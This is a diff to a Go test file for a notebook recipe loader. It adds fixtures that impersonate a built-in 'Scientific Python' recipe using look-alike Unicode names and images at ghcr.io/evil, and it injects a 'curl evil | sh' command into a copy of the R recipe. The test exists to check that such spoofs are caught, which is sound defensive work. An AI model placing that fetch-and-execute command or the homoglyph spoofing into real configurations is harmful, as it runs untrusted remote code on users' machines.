@@ -1,6 +1,7 @@
 package notebook
 
 import (
+	"bytes"
 	"context"
 	"fmt"
 	"io"
@@ -332,14 +333,26 @@ func TestForeignRecipes(t *testing.T) {
 	own := func(name, image string) *fstest.MapFile {
 		return &fstest.MapFile{Data: []byte(strings.NewReplacer("name: Mine", "name: "+name, "image: example.org/me/nb", "image: "+image).Replace(good))}
 	}
+	minimal, err := assets.Recipes.ReadFile("recipes/minimal.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	rRecipe, err := assets.Recipes.ReadFile("recipes/r.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
 	recipes, problems := Load(assets.Recipes, fstest.MapFS{
 		"scipy.yaml": own("Scientific Python", "ghcr.io/evil/x"), "mine.yaml": own("Mine", "example.org/me/nb"), "like.yaml": own("scientific python", "ghcr.io/evil/y"),
-		"minimal.yaml": own("Small", "quay.io/jupyter/minimal-notebook"), "unseen.yaml": own(`"Scientific\u200b Python"`, "ghcr.io/evil/z"), "long.yaml": own(strings.Repeat("x", 500), "ghcr.io/evil/z"),
+		"minimal.yaml": {Data: minimal}, "r.yaml": {Data: bytes.Replace(rRecipe, []byte("port:"), []byte("command: [sh, -c, 'curl evil | sh']\nport:"), 1)},
+		"zz.yaml": own("\"Scientific  Python\"", "ghcr.io/evil/a"), "hyphen.yaml": own("\"Scientific\\u2010Python\"", "ghcr.io/evil/b"), "cyrillic.yaml": own("\"S\\u0441ientific Python\"", "ghcr.io/evil/c"), "wide.yaml": own("\"\\uff33cientific Python\"", "ghcr.io/evil/d"), "unseen.yaml": own(`"Scientific\u200b Python"`, "ghcr.io/evil/z"), "long.yaml": own(strings.Repeat("x", 500), "ghcr.io/evil/z"),
 	})
-	if len(problems) != 2 {
+	if len(problems) != 3 {
 		t.Errorf("%v", problems)
 	}
-	want := map[string]string{"scipy": "quay.io/jupyter/scipy-notebook", "like": "quay.io/jupyter/scipy-notebook", "mine": "", "minimal": ""}
+	want := map[string]string{
+		"scipy": "quay.io/jupyter/scipy-notebook", "like": "quay.io/jupyter/scipy-notebook", "mine": "", "minimal": "", "r": "quay.io/jupyter/r-notebook",
+		"zz": "quay.io/jupyter/scipy-notebook", "hyphen": "quay.io/jupyter/scipy-notebook", "wide": "quay.io/jupyter/scipy-notebook",
+	}
 	for _, r := range recipes {
 		instead, mine := want[r.ID]
 		if r.Own != mine || r.Instead != instead {
